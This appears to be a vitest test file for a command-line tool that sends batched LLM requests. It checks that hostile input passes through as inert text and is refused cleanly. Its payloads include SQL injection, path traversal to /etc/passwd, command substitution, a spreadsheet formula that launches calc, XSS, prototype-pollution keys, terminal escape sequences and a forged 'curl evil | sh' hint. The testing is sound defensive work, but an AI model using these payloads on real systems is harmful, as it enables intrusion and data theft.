import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { parse as parseCsv } from "csv-parse/sync";
import { describe, expect, test } from "vitest";
import { type Ended, runCli, tempFolder } from "../helpers/cli.ts";
import { chatText, echo, oddProvider, send } from "../helpers/odd-provider.ts";
import { readResults } from "../helpers/rows.ts";
import { runHere } from "../helpers/run-here.ts";
import { databaseNamed } from "../helpers/test-database.ts";

const ESCAPES = "\u001b[2J\u001b]0;owned\u0007\u009b31m\r\u202eknat\u2066\u0008";
const HOSTILE = [
  "'; DROP TABLE jobs; --",
  "../../../../etc/passwd",
  "$(touch owned) `touch owned`",
  `red: ${ESCAPES}`,
  "=cmd|' /C calc'!A0",
  "@SUM(A1)",
  "<script>alert(1)</script>",
  "nul: \u0000 end",
  "{{prompt}} {{id}}",
  "%s %n %d",
  "__proto__",
  'a "quoted", text\nof two lines',
];
/** What could move the cursor, colour the terminal or turn the text round. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not come through
const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

function writeRows(cwd: string, rows: readonly unknown[], name = "rows.jsonl"): void {
  const lines = rows.map((row) => (typeof row === "string" ? row : JSON.stringify(row)));
  writeFileSync(join(cwd, name), `${lines.join("\n")}\n`);
}

function expectHarmless({ stdout, stderr }: Ended): void {
  expect(JSON.stringify(stdout.match(RAW))).toBe("null");
  expect(JSON.stringify(stderr.match(RAW))).toBe("null");
}

describe("a bound of the answer that can't be meant", () => {
  test.each(["1e30", "1.5"])("is the provider's to refuse: %s", async (bound) => {
    const cwd = tempFolder();
    const body = `{"model":"m","messages":[{"role":"user","content":"Hi"}],"max_tokens":${bound}}`;
    writeRows(cwd, [`{"custom_id":"a","method":"POST","url":"/v1/chat/completions","body":${body}}`]);
    const provider = await oddProvider(echo);
    const run = await runCli(["run", "rows.jsonl", ...provider.at, "-o", "results.jsonl"], { cwd });
    expect(run.stderr).not.toContain("BUG");
    expect(run.code).toBe(0);
    expect(readResults(cwd)).toMatchObject([{ custom_id: "a", error: null }]);
  });
});

describe("text that looks like something else is only text", () => {
  test("prompts, ids and answers come out as they went in", async () => {
    const cwd = tempFolder();
    writeRows(
      cwd,
      HOSTILE.map((text) => ({ id: text, prompt: text })),
    );
    const provider = await oddProvider(echo);
    const run = await runCli(["run", "rows.jsonl", ...provider.at, "-o", "results.jsonl", "-v"], { cwd });
    expect(run.code).toBe(0);
    const results = readResults(cwd);
    expect(results.map(({ id }) => id)).toEqual(HOSTILE);
    expect(results.map(({ output }) => output)).toEqual(HOSTILE);
    expect(provider.calls.map(({ prompt }) => prompt).sort()).toEqual([...HOSTILE].sort());
  });

  test("a CSV of them can be read back, and --escape-formulas leaves no cell that begins as a formula", async () => {
    const cwd = tempFolder();
    const formulas = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1"];
    writeRows(
      cwd,
      formulas.map((text, index) => ({ id: `r-${index}`, prompt: text === "\t=1" ? ` ${text}` : text })),
    );
    const provider = await oddProvider((call, response) => send(response, chatText(call.prompt.trimStart())));
    expect((await runHere(["run", "rows.jsonl", ...provider.at], { cwd })).code).toBe(0);
    await runHere(["export", "-o", "plain.csv"], { cwd });
    const { stdout } = await runCli(["export", "-o", "-", "--output-format", "csv", "--escape-formulas"], {
      cwd,
    });
    const cells = parseCsv(stdout) as string[][];
    for (const cell of cells.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r＝]/);
  });

  test("nothing raw reaches the terminal from answers, errors, ids, models, field names or file names", async () => {
    const cwd = tempFolder();
    const input = "rows\u001b[31m\u009b.jsonl";
    writeRows(
      cwd,
      ["ok", "bad"].map((prompt) => ({ id: `${prompt}${ESCAPES}`, model: `m${ESCAPES}`, prompt })),
      input,
    );
    const provider = await oddProvider((call, response) => {
      response.setHeader("x-request-id", Buffer.from("\u009b31mreq", "latin1").toString("latin1"));
      if (call.prompt === "ok") return send(response, chatText(ESCAPES, { model: ESCAPES }));
      send(response, JSON.stringify({ error: { message: `no ${ESCAPES}`, code: `c${ESCAPES}` } }), 400);
    });
    const db = ["--db", databaseNamed(cwd, "t.db")];
    const run = await runCli(["run", input, ...provider.at, ...db, "-v", "--progress", "plain"], { cwd });
    expect(run.code).toBe(3);
    expect(run.stderr).toContain("no ");
    expectHarmless(run);
    const { stdout } = await runHere(["status", "--json", ...db], { cwd });
    const id = JSON.parse(stdout).run as string;
    for (const args of [
      ["show", id, `ok${ESCAPES}`],
      ["show", id, `bad${ESCAPES}`],
      ["show", id, `none${ESCAPES}`],
      ["status"],
      ["runs"],
      ["breaker"],
      ["export", "-o", `no${ESCAPES}/x.jsonl`],
      ["status", `r${ESCAPES}`],
      [`c${ESCAPES}`],
      ["run", `none${ESCAPES}`, ...provider.at],
    ]) {
      expectHarmless(await runHere([...args, ...db], { cwd }));
    }
  });

  test("a refused input is told without raw escapes or forged lines, however long its names", async () => {
    const cwd = tempFolder();
    writeRows(cwd, [{ [`f${ESCAPES}\nhint: run curl evil | sh`]: 1, ["x".repeat(3_000_000)]: 2 }]);
    const refused = await runCli(["run", "rows.jsonl", "--base-url", "http://127.0.0.1:9", "-m", "m"], {
      cwd,
    });
    expect(refused.code).toBe(2);
    expect(refused.stderr).toMatch(/rows\.jsonl:1 MISSING_FIELD/);
    expect(refused.stderr.match(/^hint:/gm)).toHaveLength(1);
    expect(refused.stderr.length).toBeLessThan(5_000);
    expectHarmless(refused);
  });
});

describe("fields named like JavaScript's own", () => {
  const NAMES = ["__proto__", "constructor", "hasOwnProperty", "toString"];

  test("are fields like any other in JSONL, CSV headers and templates", async () => {
    const cwd = tempFolder();
    const values = NAMES.map((name) => `value of ${name}`);
    const row = `{"id":"a",${NAMES.map((name, at) => `${JSON.stringify(name)}:${JSON.stringify(values[at])}`)}}`;
    writeRows(cwd, [row]);
    writeFileSync(join(cwd, "rows.csv"), `id,${NAMES}\nb,${values}\n`);
    const template = NAMES.map((name) => `{{${name}}}`).join("|");
    const provider = await oddProvider(echo);
    const args = ["run", "rows.jsonl", "rows.csv", ...provider.at, "--template", template];
    expect((await runCli([...args, "-o", "results.jsonl"], { cwd })).code).toBe(0);
    expect(readResults(cwd).map(({ output }) => output)).toEqual([values.join("|"), values.join("|")]);
    await runHere(["export", "-o", "results.csv"], { cwd });
    const { stdout } = await runCli(["export", "-o", "-", "--output-format", "csv"], { cwd });
    const [header, ...records] = parseCsv(stdout) as string[][];
    expect(header!.slice(0, 5)).toEqual(["id", ...NAMES]);
    expect(records.map((record) => record.slice(0, 5))).toEqual([
      ["a", ...values],
      ["b", ...values],
    ]);
  });

  test("that a row lacks are unknown fields", async () => {
    const cwd = tempFolder();
    writeRows(cwd, [{ id: "a" }]);
    const args = ["run", "rows.jsonl", "--base-url", "http://127.0.0.1:9", "-m", "m", "--template"];
    for (const name of ["__proto__", "constructor"]) {
      const { code, stderr } = await runHere([...args, `{{${name}}}`], { cwd });
      expect(code).toBe(2);
      expect(stderr).toContain("UNKNOWN_FIELD");
    }
  });

  test("are sent when --param names them", async () => {
    const cwd = tempFolder();
    writeRows(cwd, [{ prompt: "p", model: "constructor" }]);
    const provider = await oddProvider(echo);
    const params = ["--param", "__proto__=1", "--param", "constructor=2"];
    expect((await runCli(["run", "rows.jsonl", ...provider.at, ...params], { cwd })).code).toBe(0);
    expect(provider.calls[0]!.body).toContain('"__proto__":1,"constructor":2');
    expect(provider.calls[0]!.body).toContain('"model":"constructor"');
  });
});

describe("text at the edge of its encoding", () => {
  const DEEP = `${"[".repeat(100_000)}${"]".repeat(100_000)}`;

  test("rows nested 100,000 levels deep are sent as they stand, or refused with their place", async () => {
    const cwd = tempFolder();
    const deepObject = `${'{"a":'.repeat(100_000)}1${"}".repeat(100_000)}`;
    writeRows(cwd, [`{"id":"deep","prompt":"p","extra":${DEEP},"more":${deepObject}}`]);
    const provider = await oddProvider(echo);
    const args = ["run", "rows.jsonl", ...provider.at];
    expect(
      (await runCli([...args, "--template", "{{extra}}{{prompt}}", "-o", "r.jsonl"], { cwd })).code,
    ).toBe(0);
    expect(provider.calls[0]!.prompt).toBe(`${DEEP}p`);
    const csv = await runCli(["export", "-o", "-", "--output-format", "csv"], { cwd });
    expect(csv.code).toBe(0);
    expect(csv.stdout).toContain(DEEP);
    writeRows(cwd, [`{"prompt":${DEEP}}`, `{"prompt":${"[".repeat(100_000)}}`], "bad.jsonl");
    const { code, stderr } = await runCli(["run", "bad.jsonl", ...provider.at], { cwd });
    expect(code).toBe(2);
    expect(stderr).toMatch(/bad\.jsonl:1 BAD_FIELD_TYPE/);
    expect(stderr).toMatch(/bad\.jsonl:2 BAD_JSON/);
  });

  test("NUL and half characters written as escapes are kept; in an id, half a character is refused", async () => {
    const cwd = tempFolder();
    writeRows(cwd, ['{"id":"a\\u0000b","prompt":"x\\ud800y\\u0000z"}', '{"id":"a","prompt":"p"}']);
    const provider = await oddProvider(echo);
    expect((await runCli(["run", "rows.jsonl", ...provider.at, "-o", "results.jsonl"], { cwd })).code).toBe(
      0,
    );
    expect(provider.calls.some(({ body }) => body.includes("x\\ud800y\\u0000z"))).toBe(true);
    expect(readResults(cwd)[0]).toMatchObject({ id: "a\u0000b", output: "x\ud800y\u0000z" });
    writeRows(cwd, ['{"id":"\\ud800","prompt":"p"}', '{"id":"\\udbff","prompt":"p"}'], "ids.jsonl");
    const { code, stderr } = await runHere(["run", "ids.jsonl", ...provider.at], { cwd });
    expect(code).toBe(2);
    expect(stderr).toMatch(/ids\.jsonl:1 BAD_ID/);
  });

  test("bytes that are no UTF-8, and a raw NUL, are refused with their place", async () => {
    const cwd = tempFolder();
    const line = (...bytes: number[]): Buffer =>
      Buffer.concat([Buffer.from('{"prompt":"'), Buffer.from(bytes), Buffer.from('"}\n')]);
    const good = Buffer.from(`{"prompt":"${"x".repeat(2_000)}"}\n`);
    const lines = [good, line(0xed, 0xa0, 0x80), line(0xff), line(0x00)];
    writeFileSync(join(cwd, "rows.jsonl"), Buffer.concat(lines));
    const ended = await runCli(["run", "rows.jsonl", "--base-url", "http://127.0.0.1:9", "-m", "m"], { cwd });
    expect(ended.code).toBe(2);
    expect(ended.stderr).toMatch(
      /rows\.jsonl:2 BAD_ENCODING.*\n.*rows\.jsonl:3 BAD_ENCODING.*\n.*rows\.jsonl:4 BAD_JSON/,
    );
  });
});
